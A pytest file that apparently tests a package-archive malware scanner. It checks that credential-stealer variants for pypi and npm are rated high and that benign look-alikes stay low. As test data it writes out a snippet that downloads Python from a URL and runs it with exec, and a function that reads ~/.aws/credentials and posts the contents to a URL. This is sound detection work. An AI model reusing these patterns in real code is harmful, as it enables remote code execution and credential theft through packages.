"""Credential stealers written to slip past the own-store and literal-URL discounts (issue 12 follow-up).

Every variant in evasion_variants.py (a secret read: SSH keys, cloud, git or npm credentials, browser
logins, Discord tokens, wallets; a destination written as a module constant, glued, base64/hex decoded
or imported from a second module; sent over requests, urllib, http.client, smtplib, a raw socket or DNS;
at import time, in a module the package imports, in a function that module calls itself, and in
setup.py) must reach high. The test covers every pair of dimensions; variants(full=True), the whole
product, reaches high too (2,496 of 2,496; 894 on main before this work). The benign
look-alikes (a CLI reading its own credentials file and calling its own API) stay low.
"""

import pytest

from scans.engine import scan_archive

from .conftest import make_tgz
from .evasion_variants import BENIGN, JS_BENIGN, js_variants, variants
from .techniques import package

VARIANTS = variants()
JS_VARIANTS = js_variants()


def _scan(rules, files, ecosystem="pypi"):
    files, root = package(ecosystem, files)
    return scan_archive(make_tgz(files, root=root), rules, filename="p.tgz", ecosystem=ecosystem)


@pytest.mark.parametrize("case", sorted(VARIANTS))
def test_the_stealer_variant_reaches_high(rules, case):
    result = _scan(rules, VARIANTS[case])
    assert result.verdict in ("high", "critical"), [f.summary() for f in result.findings]


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_the_benign_look_alike_stays_low(rules, case):
    result = _scan(rules, BENIGN[case])
    assert result.verdict in ("clean", "low"), [f.summary() for f in result.findings]


@pytest.mark.parametrize("case, rule", [
    ("module-aws_creds-second_module-requests", "eng_combo_import_time_theft"),
    ("modfunc-kube-constant_domain-smtp", "eng_combo_import_time_theft"),
    ("modfunc-ssh_key-hex-urllib", "eng_combo_cred_network"),
    ("init-aws_creds-concat-requests", "eng_combo_cred_network"),
])
def test_the_finding_names_the_theft(rules, case, rule):
    assert rule in {f.rule_id for f in _scan(rules, VARIANTS[case]).findings}


def test_a_client_reading_its_store_in_a_method_is_not_import_time_theft(rules):
    # The same read and post, but in a function nothing in the module calls: a tool's own client.
    files = {"pkg/__init__.py": "",
             "pkg/sync.py": ("import os, requests\nURL = 'https://api.example.com/v1/keys'\n\n"
                             "def push():\n    key = open(os.path.expanduser('~/.aws/credentials')).read()\n"
                             "    return requests.post(URL + '/x', data=key)\n")}
    result = _scan(rules, files)
    assert "eng_combo_import_time_theft" not in {f.rule_id for f in result.findings}
    assert result.verdict in ("clean", "low", "medium")


@pytest.mark.parametrize("case", sorted(JS_VARIANTS))
def test_the_npm_stealer_variant_reaches_high(rules, case):
    # In the main file (runs on require) or a postinstall script.
    result = _scan(rules, JS_VARIANTS[case], "npm")
    assert result.verdict in ("high", "critical"), [f.summary() for f in result.findings]


@pytest.mark.parametrize("case", sorted(JS_BENIGN))
def test_the_npm_benign_look_alike_stays_low(rules, case):
    result = _scan(rules, JS_BENIGN[case], "npm")
    assert result.verdict in ("clean", "low"), [f.summary() for f in result.findings]


_FETCH_EXEC = ("import hashlib, urllib.request\nURL = 'https://cdn.fast-build.example/p.py'\n"
               "code = urllib.request.urlopen(URL).read()\n{check}exec(code)\n")


@pytest.mark.parametrize("check", ["", "assert hashlib.sha256(code).hexdigest() == '" + "b" * 64 + "'\n"])
def test_an_init_fetching_code_from_a_constant_and_running_it_blocks_digest_check_or_not(rules, check):
    # A digest check quiets a build step's download; it does not make exec(downloaded) one.
    result = _scan(rules, {"pkg/__init__.py": _FETCH_EXEC.format(check=check)})
    assert result.verdict in ("high", "critical"), [f.summary() for f in result.findings]
    assert "eng_combo_import_remote_code" in {f.rule_id for f in result.findings}


def test_an_init_fetching_json_settings_stays_low(rules):
    body = ("import json, urllib.request\nURL = 'https://config.example.com/defaults.json'\n\n"
            "def defaults():\n    return json.loads(urllib.request.urlopen(URL).read())\n")
    assert _scan(rules, {"pkg/__init__.py": body}).verdict in ("clean", "low")
